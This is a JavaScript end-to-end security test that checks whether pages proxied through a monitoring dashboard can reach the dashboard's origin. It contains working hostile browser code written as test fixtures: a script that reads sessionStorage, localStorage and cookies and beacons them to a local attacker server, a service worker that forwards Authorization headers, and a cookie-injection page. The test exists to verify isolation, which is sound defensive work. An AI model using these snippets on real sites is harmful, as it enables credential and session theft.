// @ts-check
// End-to-end: pages served through `/proxy/<service>/…` on the monitor's own hostname must not
// reach the dashboard's origin. Three attacks in Debian's headless Chromium (playwright-core,
// never a downloaded browser) against `npm start` (fresh state, a snapshot of the project) with a
// hostile origin on 127.0.0.1 configured as a service: (a) after an admin sign-in, the same tab
// opens a proxied page whose script reads the key from storage (and through a framed dashboard)
// and sends it to the origin; (b) a proxied page registers a proxied sw.js sent with
// `Service-Worker-Allowed: /` over the whole origin, which would then capture the next sign-in;
// (c) a proxied response's Set-Cookie lands in the cookie jar of the monitor's host. Each
// attack checks that the hostile script did run, so a page that merely failed cannot pass.
// Skipped, saying why, only when /usr/bin/chromium is absent (.ci/run installs it).
import assert from "node:assert/strict";
import http from "node:http";
import { after, before, describe, test } from "node:test";
import { browserSkip, launchChromium, sleep } from "./dashboard-browser.mjs";
import { startMonitor } from "./start-monitor.mjs";
import { until as waitUntil } from "./until.mjs";

const PROJECT = [
  "src",
  "migrations",
  "scripts",
  "dashboard",
  "package.json",
  "tsconfig.json",
  "wrangler.toml",
  ".dev.vars.example",
];
const skip = browserSkip("proxy isolation");

/** @type {import("./start-monitor.mjs").Monitor} */
let monitor;
let base = "";
let keys = /** @type {{ read: string; admin: string }} */ ({});
/** @type {http.Server} */
let hostile;
/** @type {import("playwright-core").Browser} */
let browser;
/**
 * What the hostile origin was sent back: `{ kind, params }` per /collect/<kind> request.
 * @type {{ kind: string; params: Record<string, string> }[]}
 */
const collected = [];

/**
 * The hostile origin's pages; `self` is its own URL, where the stolen data goes.
 * @param {string} self
 * @param {string} kind
 * @param {string} body
 */
function hostilePage(self, kind, body) {
  return `<!doctype html><meta charset="utf-8"><title>${kind}</title><body><script>
const ORIGIN = ${JSON.stringify(self)};
function send(kind, data) { new Image().src = ORIGIN + "/collect/" + kind + "?" + new URLSearchParams(data); }
${body}
</script>`;
}

const STEAL = `
const out = { ran: "1" };
try { out.session = JSON.stringify(Object.assign({}, sessionStorage)); } catch (e) { out.session = "blocked:" + e.name; }
try { out.local = JSON.stringify(Object.assign({}, localStorage)); } catch (e) { out.local = "blocked:" + e.name; }
try { out.cookie = document.cookie; } catch (e) { out.cookie = "blocked:" + e.name; }
send("steal", out);
// The dashboard in a frame: same origin, same tab, its sessionStorage would be this tab's.
const frame = document.createElement("iframe");
frame.src = "/";
frame.onload = () => {
  let framed;
  try { framed = JSON.stringify(Object.assign({}, frame.contentWindow.sessionStorage)); } catch (e) { framed = "blocked:" + e.name; }
  send("framed", { ran: "1", framed });
};
document.body.appendChild(frame);
`;

const REGISTER = `
(async () => {
  const out = { ran: "1" };
  for (const [name, options] of [["root", { scope: "/" }], ["default", undefined]]) {
    try {
      const reg = await navigator.serviceWorker.register("sw.js", options);
      out[name] = "registered:" + reg.scope;
    } catch (e) {
      out[name] = "refused:" + e.name;
    }
  }
  send("register", out);
})();
`;

/**
 * A service worker that sends every Authorization header it sees to the hostile origin.
 * @param {string} self
 */
function serviceWorker(self) {
  return `self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (e) => e.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (e) => {
  const auth = e.request.headers.get("authorization");
  if (auth) fetch(${JSON.stringify(self)} + "/collect/sw?" + new URLSearchParams({ auth }), { mode: "no-cors" });
});`;
}

/** @returns {Promise<http.Server>} */
function startHostile() {
  const server = http.createServer((req, res) => {
    const url = new URL(req.url ?? "/", "http://origin");
    const self = `http://127.0.0.1:${/** @type {import("node:net").AddressInfo} */ (server.address()).port}`;
    /** @param {string} body */
    const html = (body) => res.writeHead(200, { "Content-Type": "text/html; charset=utf-8" }).end(body);
    if (url.pathname.startsWith("/collect/")) {
      collected.push({ kind: url.pathname.slice("/collect/".length), params: Object.fromEntries(url.searchParams) });
      return res.writeHead(204).end();
    }
    if (url.pathname === "/frame.html")
      return html(
        `<!doctype html><title>frame</title><iframe src="${(url.searchParams.get("src") ?? "").replace(/"/g, "")}"></iframe>`,
      );
    if (url.pathname === "/steal.html") return html(hostilePage(self, "steal", STEAL));
    if (url.pathname === "/register.html") return html(hostilePage(self, "register", REGISTER));
    if (url.pathname === "/sw.js") {
      return res
        .writeHead(200, {
          "Content-Type": "text/javascript",
          "Service-Worker-Allowed": "/",
          "Cache-Control": "no-store",
        })
        .end(serviceWorker(self));
    }
    if (url.pathname === "/cookie.html") {
      res.setHeader("Set-Cookie", ["proxied_session=from-origin; Path=/", "proxied_wide=1; Path=/; Max-Age=3600"]);
      return html(hostilePage(self, "cookie", `send("cookie", { ran: "1" });`));
    }
    res.writeHead(404, { "Content-Type": "text/plain" }).end("not found");
  });
  return new Promise((resolve) => server.listen(0, "127.0.0.1", () => resolve(server)));
}

/**
 * Waits as `until` does, polling every 200 ms for 15 s unless told.
 * @template T
 * @param {string} what
 * @param {() => T | Promise<T>} fn
 * @param {number} [timeoutMs]
 */
const until = (what, fn, timeoutMs = 15_000) => waitUntil(what, fn, timeoutMs, 200);

/**
 * The first report of `kind` from the hostile origin's scripts.
 * @param {string} kind
 * @param {number} [timeoutMs]
 */
const report = (kind, timeoutMs) =>
  until(`a ${kind} report from the proxied page`, () => collected.find((c) => c.kind === kind)?.params, timeoutMs);

/**
 * Signs in to the dashboard at / with the admin key, in `page`'s tab.
 * @param {import("playwright-core").Page} page
 */
async function signInAsAdmin(page) {
  await page.goto(`${base}/`);
  await page.fill("#api-key", keys.admin);
  await page.click("form.login button[type=submit]");
  await page.waitForSelector("button:has-text('Sign out')");
}

describe("proxied content is isolated from the dashboard (headless Chromium)", { skip }, () => {
  before(
    async () => {
      hostile = await startHostile();
      monitor = await startMonitor("isolation", { snapshot: PROJECT });
      base = monitor.url;
      keys = /** @type {typeof keys} */ ({ read: monitor.readKey, admin: monitor.adminKey });
      const put = await fetch(`${base}/v1/services/hostile`, {
        method: "PUT",
        headers: { Authorization: `Bearer ${keys.admin}`, "Content-Type": "application/json" },
        body: JSON.stringify({
          origin: `http://127.0.0.1:${/** @type {import("node:net").AddressInfo} */ (hostile.address()).port}`,
        }),
      });
      assert.ok(
        put.status === 200 || put.status === 201,
        `PUT /v1/services/hostile: ${put.status} ${await put.text()}`,
      );
      browser = await launchChromium();
    },
    { timeout: 180_000 },
  );

  after(async () => {
    await browser?.close();
    hostile?.close();
    await monitor?.stop();
  });

  test(
    "the dashboard runs under its own CSP: sign-in and a chart without a violation, not frameable",
    { timeout: 60_000 },
    async () => {
      const context = await browser.newContext();
      try {
        const page = await context.newPage();
        /** @type {string[]} */
        const problems = [];
        page.on("console", (m) => m.type() === "error" && problems.push(m.text()));
        page.on("pageerror", (e) => problems.push(`uncaught: ${e.message}`));
        await page.addInitScript(() =>
          document.addEventListener("securitypolicyviolation", (e) =>
            console.error(`CSP violation: ${e.violatedDirective} ${e.blockedURI}`),
          ),
        );
        const response = await page.goto(`${base}/`);
        const headers = /** @type {import("playwright-core").Response} */ (response).headers();
        assert.match(headers["content-security-policy"] ?? "", /frame-ancestors 'none'/);
        assert.equal(headers["x-content-type-options"], "nosniff");
        assert.equal(headers["referrer-policy"], "no-referrer");
        await signInAsAdmin(page);
        // A uPlot chart drawn off screen (the dashboard's own benchmark hook): styles go through the CSSOM.
        const ms = await page.evaluate(() =>
          /** @type {typeof window & { edgeMonitorBenchChart: (n: number) => number }} */ (
            window
          ).edgeMonitorBenchChart(500),
        );
        assert.ok(ms > 0);
        assert.deepEqual(problems, [], "console errors on the dashboard");
        // Framed by another origin (the hostile one, opened directly): the browser refuses to render it.
        await page.goto(
          `http://127.0.0.1:${/** @type {import("node:net").AddressInfo} */ (hostile.address()).port}/frame.html?src=${encodeURIComponent(`${base}/`)}`,
        );
        await sleep(1_000);
        const framed = page.frames().find((f) => f !== page.mainFrame());
        assert.ok(framed, "the frame exists");
        assert.equal(await framed.locator("#app").count(), 0, `the dashboard rendered in a frame at ${framed.url()}`);
        assert.ok(
          problems.some((p) => /frame-ancestors/.test(p)),
          `no frame-ancestors refusal: ${problems.join(" | ")}`,
        );
      } finally {
        await context.close();
      }
    },
  );

  test("(a) a proxied page opened in the signed-in admin's tab cannot read the key", { timeout: 60_000 }, async () => {
    const context = await browser.newContext();
    try {
      const page = await context.newPage();
      await signInAsAdmin(page);
      const stored = await page.evaluate(() => sessionStorage.getItem("edge-monitor.key"));
      assert.ok(stored?.includes(keys.admin), "the dashboard keeps the key in this tab's session storage");
      await page.goto(`${base}/proxy/hostile/steal.html`);
      const steal = await report("steal");
      const framed = await report("framed");
      assert.equal(steal.ran, "1", "the proxied page's script ran");
      // What the origin received, all of it: the key is nowhere.
      const sent = JSON.stringify(collected);
      assert.ok(!sent.includes(keys.admin), `the admin key reached the origin: ${sent}`);
      assert.match(steal.session, /^blocked:SecurityError$/, `sessionStorage: ${steal.session}`);
      assert.match(steal.local, /^blocked:SecurityError$/, `localStorage: ${steal.local}`);
      assert.match(framed.framed, /^blocked:/, `framed dashboard: ${framed.framed}`);
      // The key is still there for the dashboard itself: the tab goes back to it signed in.
      await page.goto(`${base}/`);
      await page.waitForSelector("button:has-text('Sign out')");
    } finally {
      await context.close();
    }
  });

  test(
    "(b) a proxied sw.js with Service-Worker-Allowed: / cannot be registered, so a later sign-in is not captured",
    { timeout: 60_000 },
    async () => {
      const context = await browser.newContext();
      try {
        const page = await context.newPage();
        await page.goto(`${base}/proxy/hostile/register.html`);
        const register = await report("register");
        // Seen from the monitor's own origin: is there a service worker anywhere on it?
        await page.goto(`${base}/`);
        await sleep(500);
        const scopes = await page.evaluate(async () =>
          (await navigator.serviceWorker.getRegistrations()).map((r) => r.scope),
        );
        // The next admin sign-in in this browser: a worker over "/" would see its Authorization header.
        await page.reload();
        await page.fill("#api-key", keys.admin);
        await page.click("form.login button[type=submit]");
        await page.waitForSelector("button:has-text('Sign out')");
        await sleep(500);
        const captured = collected.filter((c) => c.kind === "sw");
        assert.equal(register.ran, "1", "the proxied page's script ran");
        assert.deepEqual(
          { scopes, captured },
          { scopes: [], captured: [] },
          `registration: ${JSON.stringify(register)}`,
        );
        assert.match(register.root, /^refused:/, `scope /: ${register.root}`);
        assert.match(register.default, /^refused:/, `default scope: ${register.default}`);
      } finally {
        await context.close();
      }
    },
  );

  test(
    "(c) a proxied response's Set-Cookie does not reach the monitor host's cookie jar",
    { timeout: 60_000 },
    async () => {
      const context = await browser.newContext();
      try {
        const page = await context.newPage();
        await page.goto(`${base}/proxy/hostile/cookie.html`);
        assert.equal((await report("cookie")).ran, "1", "the proxied page loaded and its script ran");
        // A subresource request (not a navigation) may set cookies too.
        await page.goto(`${base}/`);
        await page.evaluate(async (url) => void (await fetch(url)), `${base}/proxy/hostile/cookie.html`);
        const jar = await context.cookies(base);
        assert.deepEqual(
          jar.map((c) => c.name),
          [],
          "cookies of the monitor's host",
        );
        assert.equal(await page.evaluate(() => document.cookie), "");
      } finally {
        await context.close();
      }
    },
  );
});
